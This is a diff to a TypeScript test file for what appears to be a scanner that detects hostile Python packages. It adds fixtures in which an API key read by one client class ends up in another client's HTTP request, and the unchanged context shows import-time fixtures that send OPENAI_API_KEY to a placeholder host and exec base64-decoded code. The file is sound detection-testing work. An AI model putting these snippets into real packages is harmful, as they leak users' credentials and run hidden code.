@@ -31,6 +31,24 @@ const RESTORED = (use: string, before = ""): string =>
   "    module = __import__(data['module'], fromlist=['x'])\n" +
   "    kind = getattr(module, data['class'])\n" + use;
 
+/** One client fills in its own key; what another does with an object of the same class. */
+const TWO_CLIENTS = (other: string): Files => ({
+  "kit/config.py": "class Config:\n    def __init__(self, key=None):\n        self.key = key\n",
+  "kit/first.py": "import os\nfrom .config import Config\n\nclass First:\n" +
+    "    def __init__(self, config=None):\n        if config is None:\n" +
+    "            config = Config()\n            config.key = os.getenv('OPENAI_API_KEY')\n" +
+    "        self.config = config\n",
+  "kit/second.py": "import os, httpx\nfrom .config import Config\nfrom .first import First\n\n" +
+    "class Second:\n    def __init__(self, config=None):\n" +
+    "        given = config or Config()\n" +
+    "        self.own = given.key or os.getenv('SECOND_API_KEY')\n\n" +
+    "    def get(self):\n" +
+    "        return httpx.get('https://api.second.example', headers={'Authorization': self.own})\n" +
+    other,
+  "kit/__init__.py": "from .second import Second\n\n__all__ = ['Second']\n",
+});
+const SENT_BY_SECOND = "py/key-sent kit/second.py:11";
+
 /** Each package, and a rule that it breaks with the place. */
 const HOSTILE: Record<string, [files: Files, found: string]> = {
   "the environment is sent at import": [{
@@ -65,6 +83,50 @@ const HOSTILE: Record<string, [files: Files, found: string]> = {
     "kit/__init__.py": "import os, requests\n" +
       "requests.get('https://metrics.example/' + os.environ['OPENAI_API_KEY'])\n",
   }, "py/key-sent kit/__init__.py:2"],
+  "one client is made with what another filled": [
+    TWO_CLIENTS("\nSecond(First().config).get()\n"),
+    SENT_BY_SECOND,
+  ],
+  "one client is made by another name with what another filled": [{
+    ...TWO_CLIENTS(""),
+    "kit/run.py": "from .first import First\nfrom .second import Second as Client\n" +
+      "Client(First().config).get()\n",
+  }, SENT_BY_SECOND],
+  "a class of its own is a client with what another filled": [
+    TWO_CLIENTS("\nclass Third(Second):\n    pass\n\nThird(First().config).get()\n"),
+    SENT_BY_SECOND,
+  ],
+  "a client reads what objects of a class have by themselves": [{
+    ...TWO_CLIENTS(""),
+    "kit/first.py": "import os\n\nclass First:\n    def __init__(self):\n" +
+      "        self.key = os.getenv('OPENAI_API_KEY')\n",
+  }, SENT_BY_SECOND],
+  "a client reads what a class has by itself": [{
+    ...TWO_CLIENTS(""),
+    "kit/first.py": "import os\nfrom .config import Config\nclass First: pass\n" +
+      "Config.key = os.getenv('OPENAI_API_KEY')\n",
+  }, SENT_BY_SECOND],
+  "a client reads what a function fills for its callers": [{
+    ...TWO_CLIENTS(""),
+    "kit/first.py": "import os\nfrom .config import Config\nclass First: pass\n" +
+      "def configured():\n    config = Config()\n" +
+      "    config.key = os.getenv('OPENAI_API_KEY')\n    return config\n",
+  }, SENT_BY_SECOND],
+  "a client inherits what its base is filled with": [{
+    ...TWO_CLIENTS(""),
+    "kit/config.py": "import os\n\nclass Config:\n    def __init__(self, own):\n" +
+      "        own.key = os.getenv('OPENAI_API_KEY')\n",
+    "kit/first.py": "from .config import Config\n\nclass First:\n" +
+      "    def __init__(self):\n        Config(self)\n",
+    "kit/second.py": "import httpx\nfrom .first import First\n\nclass Second(First):\n" +
+      "    def get(self):\n" +
+      "        return httpx.get('https://api.second.example', headers={'Authorization': self.key})\n",
+  }, "py/key-sent kit/second.py:6"],
+  "clients are made that nothing names": [{
+    ...TWO_CLIENTS(""),
+    "kit/run.py": "from .first import First\nfor each in object.__subclasses__():\n" +
+      "    each(First().config).get()\n",
+  }, SENT_BY_SECOND],
   "decoded text is run": [{
     "kit/__init__.py": `import base64\nexec(base64.b64decode("${PAYLOAD}"))\n`,
   }, "py/encoded-code kit/__init__.py:2"],
@@ -145,6 +207,7 @@ const HONEST: Record<string, Files> = {
       "def load(raw):\n    data = json.loads(base64.b64decode(raw))\n" +
       "    return getattr(import_module(data['m']), data['c']).from_dict(data['fields'])\n",
   },
+  "clients of two services whose settings are of one class": TWO_CLIENTS(""),
   "a template engine that compiles what it makes": {
     "kit/__init__.py":
       "def render(source, values):\n    code = compile(translate(source), 'x', 'exec')\n" +
